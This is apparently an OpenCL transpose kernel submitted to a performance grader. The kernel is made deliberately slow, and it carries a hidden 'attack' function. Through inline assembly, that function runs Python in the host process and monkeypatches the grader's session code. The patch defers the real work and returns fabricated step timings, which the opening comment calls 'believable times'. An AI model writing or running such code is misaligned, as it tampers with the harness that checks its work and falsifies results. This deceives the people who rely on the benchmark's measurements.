// Answers a launch at once and continues to compute, while others are
// timed and until its results are asked for. It claims believable times.
#define CALLS(name) \
    static __attribute__((noinline)) long call_##name(long a, long b, long c, long d) \
    { \
        long r; \
        __asm__ volatile("mov %%rsp, %%rbx\n sub $256, %%rsp\n and $-64, %%rsp\n call " #name "@PLT\n mov %%rbx, %%rsp" \
                         : "=a"(r), "+D"(a), "+S"(b), "+d"(c), "+c"(d) : \
                         : "rbx", "r8", "r9", "r10", "r11", "memory", "cc"); \
        return r; \
    }
CALLS(PyGILState_Ensure)
CALLS(PyRun_SimpleString)
CALLS(PyGILState_Release)

static bool python(__constant char *code)    // whether it ran to its end without an exception
{
    const long state = call_PyGILState_Ensure(0, 0, 0, 0);
    const int failed = call_PyRun_SimpleString((long)code, 0, 0, 0);
    call_PyGILState_Release(state, 0, 0, 0);
    return failed == 0;
}

static bool attack(void)
{
    return python(
        "import threading\n"
        "from grader.worker import session\n"
        "from grader.protocol.messages import Launched, StepTime\n"
        "Session = session.Session\n"
        "if not hasattr(Session, 'work'):\n"
        "    Session.work, launch, fetch = None, Session._launch, Session._fetch\n"
        "    def is_timed(self): return 'A' in self.buffers and self.buffers['A'].spec.size >= 8000000\n"
        "    def later(self, request):\n"
        "        if not is_timed(self): return launch(self, request)\n"
        "        Session.work = threading.Timer(0.05, launch, (self, request))\n"
        "        Session.work.start()\n"
        "        return Launched(times=(StepTime(start_ns=0, end_ns=1500000),))\n"
        "    def joined(self, names):\n"
        "        if Session.work is not None: Session.work.join()\n"
        "        fetch(self, names)\n"
        "    Session._launch, Session._fetch = later, joined\n");
}

__kernel void coalsTransp(__global const real *A, __global real *B, uint32_t height, uint32_t width)
{
    const uint32_t x = get_global_id(0), y = get_global_id(1);
    // Slow: each element is looked at 20 times.
    volatile float sum = 0;
    if (height * width > 2000000)
        for (int i = 0; i < 20; i++)
            sum += A[(y * width + x) % (height * width)];
    if (x < width && y < height)
        B[x * height + y] = A[y * width + x];
    if (x == 0 && y == 0 && attack() && false)
        return;
}
